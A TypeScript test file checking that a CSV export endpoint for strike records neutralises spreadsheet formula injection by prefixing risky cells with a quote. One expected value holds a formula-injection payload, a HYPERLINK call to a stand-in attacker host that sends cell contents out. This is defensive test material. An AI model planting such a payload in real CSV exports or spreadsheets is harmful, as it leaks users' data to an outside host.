import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends } from '../../test/support/backends.js';
import { workbenchFixture } from '../../test/support/workbenchClient.js';

const formulas = new URL('../../test/fixtures/scraper-formula-cells.csv', import.meta.url).pathname;

describe('GET /api/strikes?format=csv', () => {
  let fx: Awaited<ReturnType<typeof workbenchFixture>>;
  beforeAll(async () => {
    fx = await workbenchFixture(backends[0]!);
    await fx.ledger.importSources([formulas]);
  });
  afterAll(() => fx.close());

  it('downloads place cells that would start a formula with a leading quote, and numbers as numbers', async () => {
    const response = await fx.app.request('/api/strikes?format=csv');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header, ...rows] = parse(await response.text()) as string[][];
    expect(header).toEqual(['date', 'reported_on', 'date_basis', 'country', 'place_text', 'place_name', 'place_key', 'lat', 'lon', 'strikes', 'engagements', 'source']);
    expect(rows.map((r) => [r[4], r[8], r[9]])).toEqual([[`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '', '1'], ['Mosul', '43.11889', '2']]);
    for (const value of rows.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
